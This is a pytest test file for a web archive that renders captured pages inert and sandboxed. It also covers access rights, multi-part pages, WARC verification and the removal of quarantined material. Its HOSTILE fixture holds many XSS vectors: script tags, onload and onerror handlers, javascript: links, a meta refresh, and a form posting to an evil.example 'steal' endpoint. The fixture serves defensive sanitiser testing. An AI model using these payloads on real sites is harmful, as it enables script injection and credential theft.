"""采集时原貌: shown with the rights of the original, with everything that acts, loads or leads away dead."""

from __future__ import annotations

import hashlib
import re
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html
from sqlalchemy import select
from typer.testing import CliRunner
from warcio.archiveiterator import ArchiveIterator
from web_world import ILLNESS, World, world, world_template

from api.cli import commands
from api.inert import inert_page
from collector.fetch import Answer
from collector.warc import Recorder
from storage.tables import AuditEntry, Capture, Document, Quarantine

__all__ = ["world", "world_template"]
PIXEL = (
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNk+A8AAQUBAScY42YAAAAASUVORK5CYII="
)
HOSTILE = f"""<!doctype html><html onload="alert(0)"><head><title>一楼一策</title><base href="http://evil.example/">
<meta charset="gbk"><meta http-equiv="refresh" content="0;url=http://evil.example/go">
<link rel="stylesheet" href="http://evil.example/a.css"><script src="//evil.example/x.js"></script>
<style>@import "http://evil.example/b.css"; p {{ color: red; background: url(http://evil.example/c.png) }}</style>
</head><body background="http://evil.example/bg.png" onpageshow="alert(1)"><script>alert(2)</script>
<!--[if IE]><script>alert(3)</script><![endif]--><p style="background:url('//evil.example/d.png');color:blue">正文一段。
</p><svg onload="alert(4)"><script>alert(5)</script><a xlink:href="javascript:alert(6)">x</a></svg>
<math><mi xlink:href="javascript:alert(7)">y</mi></math>
<form action="http://evil.example/steal" method="post"><input name="p" autofocus onfocus="alert(8)">
<button formaction="javascript:alert(9)">提交意见</button></form>
<a href="javascript:alert(10)" target="_top" ping="http://evil.example/ping">链接文字</a>
<img src="http://evil.example/e.png" srcset="http://evil.example/f.png 2x" onerror="alert(11)">
<img src="{PIXEL}" alt="章"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<iframe srcdoc="<script>alert(12)</script>"></iframe><object data="http://evil.example/g.swf"></object>
<embed src="http://evil.example/h.swf"><video src="http://evil.example/i.mp4" autoplay></video>
<noscript><p>无脚本时的文字</p><img src="http://evil.example/j.png"></noscript>
<table><tr><td colspan="2" background="http://evil.example/k.png">表格</td></tr></table></body></html>"""
DEAD = ("script", "svg", "math", "form", "iframe", "object", "embed", "video", "base", "link", "button")


def put_page(world: World, key: str, data: bytes, **headers: Any) -> int:
    """Make `data` the original of a document."""
    document_id = world.documents[key]
    with world.system.database.write() as session:
        capture = session.get_one(Capture, session.get_one(Document, document_id).capture_id)
        capture.sha256, capture.headers = world.system.archive.put(data), headers
    return document_id


def audited(world: World) -> list[AuditEntry]:
    with world.system.database.read() as session:
        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == "document-captured")))


def test_a_hostile_page_is_shown_dead(world: World) -> None:
    document_id = put_page(world, "practice", HOSTILE.encode())
    answer = world.client("off1").get(f"/documents/{document_id}/captured/page")
    assert answer.status_code == 200
    policy = answer.headers["content-security-policy"]
    assert policy.startswith("sandbox; default-src 'none'; style-src 'unsafe-inline'; img-src data:;")
    assert "allow-" not in policy
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    shown = answer.text
    for word in ("evil.example", "alert(", "javascript:", "refresh", "onload", "onerror", "gbk", "svg+xml"):
        assert word not in re.sub(r'title="[^"]*"', "", shown), word  # a link's address is told in its title
    tree = html.fromstring(shown.encode())
    assert not [tag for tag in DEAD if tree.xpath(f"//{tag}")]
    assert not tree.xpath("//@href | //@action | //@srcset | //@background | //@target")
    assert tree.xpath("//@src") == [PIXEL]
    for words in ("正文一段。", "链接文字", "表格", "无脚本时的文字", "提交意见", "color:blue", "（图片未随网页保存）"):
        assert words in shown, words


def test_the_page_around_it_frames_it_in_a_sandbox_and_stays_unframed_itself(world: World) -> None:
    document_id = put_page(world, "practice", HOSTILE.encode())
    client = world.client("off1")
    assert f'href="/documents/{document_id}/captured"' in client.get(f"/documents/{document_id}").text
    answer = client.get(f"/documents/{document_id}/captured")
    [frame] = html.fromstring(answer.text).xpath("//iframe")
    assert frame.get("sandbox") == ""
    assert frame.get("title")
    assert answer.headers["x-frame-options"] == "DENY"
    assert "evil" not in answer.text
    assert audited(world) == []
    assert client.get(frame.get("src")).status_code == 200
    [entry] = audited(world)
    assert (entry.login, entry.object_id) == ("off1", str(document_id))
    assert entry.detail["sha256"] == hashlib.sha256(HOSTILE.encode()).hexdigest()


def test_pages_in_other_charsets_and_of_several_parts(world: World) -> None:
    second = world.system.archive.put("<p>第二页的正文</p>".encode())
    first = "<meta charset=gb2312><p>第一页的正文，镕</p>".encode("gb18030")
    parts = [{"url": "http://a.example/2", "sha256": second}]
    document_id = put_page(world, "practice", first, **{"content-type": "text/html; charset=gb2312", "x-parts": parts})
    client = world.client("off1")
    sources = html.fromstring(client.get(f"/documents/{document_id}/captured").text).xpath("//iframe/@src")
    assert len(sources) == 2
    assert "第一页的正文，镕" in client.get(sources[0]).text
    assert "第二页的正文" in client.get(sources[1]).text
    assert client.get(f"/documents/{document_id}/captured/page?part=3").status_code == 404


def test_rights_are_those_of_the_original(world: World) -> None:
    paths = [f"/documents/{world.documents['practice']}/captured{end}" for end in ("", "/page")]
    for path in paths:
        for login, status in (("", 303), ("sys", 403), ("aud", 403), ("off1", 200)):
            assert world.client(login).get(path).status_code == status, (login, path)
    for key in ("illness", "letter"):
        path = f"/documents/{world.documents[key]}/captured/page"
        for login in ("off1", "head"):
            answer = world.client(login).get(path)
            assert answer.status_code in (403, 404), (key, login)
            assert ILLNESS not in answer.text
    assert {entry.login for entry in audited(world)} == {"off1"}


def test_reports_are_downloads_only(world: World) -> None:
    document_id = world.documents["practice"]
    with world.system.database.write() as session:
        session.get_one(Document, document_id).kind = "report"
    client = world.client("head")
    assert f"/documents/{document_id}/original" in client.get(f"/documents/{document_id}").text
    assert f"/documents/{document_id}/captured" not in client.get(f"/documents/{document_id}").text
    for end in ("", "/page"):
        answer = client.get(f"/documents/{document_id}/captured{end}")
        assert answer.status_code == 422
        assert "CAPTURED-DOWNLOAD" in answer.text


@given(st.text(alphabet=st.sampled_from(list("<>/=\"' \n!-[]?&;:ascriptvgonld\x00正文")), max_size=120))
def test_no_text_makes_a_live_page(text: str) -> None:
    shown = inert_page("<p>" + text + "<script>alert(1)</script><img src=http://a.example/ onerror=alert(2)>")
    tree = html.fromstring(shown.encode())
    assert not tree.xpath("//script | //svg | //iframe")
    assert not [name for name in tree.xpath("//@*/..") if any(str(key).startswith("on") for key in name.attrib)]


@pytest.mark.parametrize("text", ["", "\x00", "<!-- only -->", "no markup at all", "<" * 3000 + "div" + ">" * 3000])
def test_pages_that_are_none_are_shown_all_the_same(text: str) -> None:
    assert inert_page(text).startswith("<!DOCTYPE html>")


def test_hand_over_takes_the_letter_out_of_the_archived_responses(world: World) -> None:
    system = world.system
    with system.database.read() as session:
        row = session.scalars(select(Quarantine)).one()
        source = session.scalars(select(Capture.source_id).where(Capture.sha256 == row.sha256)).one()
        digest, key = row.sha256, row.id
    second, shared = system.archive.put(b"page two"), system.archive.put(b"page of another document")
    put_page(world, "practice", b"page of another document")
    with system.database.write() as session:
        for capture in session.scalars(select(Capture).where(Capture.sha256 == digest)):
            capture.headers = {"x-parts": [{"url": "u", "sha256": second}, {"url": "v", "sha256": shared}]}
    letter = system.archive.get(digest)
    writer = Recorder(system.warc)
    for number, body in enumerate((b"before", letter, b"page two", b"after")):
        writer.write(source, f"http://a.example/{number}", Answer(200, {}, body))
    data = {"handed_to": "市纪委监委信访室", "receipt": "收2025-017"}
    assert world.client("head").post(f"/quarantine/{key}/hand-over", data=data).status_code == 303
    [path] = system.warc.files(source)
    assert verify(world)[1].startswith("1 files, 2 responses, 0 revisits, 0 digests wrong")
    assert system.archive.get(shared)
    for gone in (digest, second):
        assert not system.archive.path(gone).exists()
    with path.open("rb") as file:
        kept = [r.content_stream().read() for r in ArchiveIterator(file) if r.rec_type == "response"]
    assert kept == [b"before", b"after"]


def verify(world: World, *more: str) -> tuple[int, str]:
    settings = world.system.settings
    environment = {"SHIJI_DATA": settings.data_text, "SHIJI_DATABASE": settings.database_text}
    result = CliRunner().invoke(commands, ["warc", "verify", *more], env=environment)
    return result.exit_code, result.stdout


def test_verify_counts_and_tells_damage(world: World) -> None:
    writer = Recorder(world.system.warc)
    for number in range(3):
        writer.write("ribao", f"http://a.example/{number}", Answer(200, {}, b"page %d" % number * 20))
    assert verify(world) == (0, "1 files, 3 responses, 0 revisits, 0 digests wrong\n")
    assert verify(world, "--source", "jbrb") == (0, "0 files, 0 responses, 0 revisits, 0 digests wrong\n")
    [path] = world.system.warc.files()
    sound = path.read_bytes()
    path.write_bytes(sound + sound[:30])
    code, said = verify(world)
    assert code == 0
    assert "torn tail" in said
    path.write_bytes(sound[: len(sound) // 2] + b"\xff\xff\xff\xff" + sound[len(sound) // 2 + 4 :])
    code, said = verify(world)
    assert code == 1
    assert "damaged" in said
